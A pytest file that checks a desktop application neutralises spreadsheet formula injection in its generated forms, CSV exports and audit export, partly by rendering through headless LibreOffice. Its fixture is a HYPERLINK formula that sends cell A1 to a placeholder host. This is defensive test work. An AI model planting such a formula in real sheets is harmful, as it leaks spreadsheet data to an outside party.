"""Text that could start a formula stays text: intake forms, CSV exports, the audit export.

One helper (desktop.sheettext) for every writer; LibreOffice, a real client,
shows the unit's name as it is and computes nothing.
"""

from __future__ import annotations

import shutil
import subprocess

import openpyxl
import pytest

from desktop.data.audit import entries, entries_csv
from desktop.data.units import rename_unit
from desktop.data.values import ValueInput, write_values
from desktop.data.values_csv import export_values_csv, import_values_csv
from desktop.sheettext import csv_text, from_csv_text, put_text
from tests.intake.conftest import COMMUNE, OPEN_PERIOD

HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_the_one_helper(text):
    assert csv_text(text) == "'" + text and from_csv_text(csv_text(text)) == text
    cell = openpyxl.Workbook().active["A1"]
    put_text(cell, text)
    assert cell.data_type == "s" and cell.quotePrefix
    assert csv_text("Xã Một") == "Xã Một" and csv_text(12) == 12


def test_a_hostile_unit_name_is_text_in_the_form(db, make_form, tmp_path):
    with db.session() as session:
        rename_unit(session, COMMUNE, HOSTILE)
    path = make_form(COMMUNE, OPEN_PERIOD)
    sheet = openpyxl.load_workbook(path).worksheets[0]
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row
                if cell.data_type == "f"]
    assert formulas == []
    assert sheet["A1"].value == HOSTILE.upper() and sheet["A1"].quotePrefix
    if shutil.which("soffice") is None:
        return
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo",
                    "--convert-to", "csv", "--outdir", str(tmp_path / "lo"), str(path)],
                   check=True, capture_output=True, timeout=120)
    shown = (tmp_path / "lo" / f"{path.stem}.csv").read_text(encoding="latin-1")
    assert '=HYPERLINK(""HTTP://EXAMPLE.INVALID/?""&A1' in shown  # the text, not its result


def test_values_and_audit_exports_escape_and_import_back(db, tmp_path):
    with db.session() as session:
        write_values(session, [ValueInput(COMMUNE, "STAFF", OPEN_PERIOD, 7, comment="=2+3")])
        text = export_values_csv(session, unit=COMMUNE, period=OPEN_PERIOD)
        audit = entries_csv(entries(session, "value", None, 50))
    assert f"{COMMUNE},STAFF,{OPEN_PERIOD},7,'=2+3" in text
    assert all(not cell.startswith(("=", "+", "-", "@"))
               for line in (text + audit).splitlines() for cell in line.split(","))
    again = tmp_path / "again.csv"
    again.write_text(text, encoding="utf-8")
    with db.session() as session:
        assert import_values_csv(session, again).changed == 0  # the comment reads back unchanged
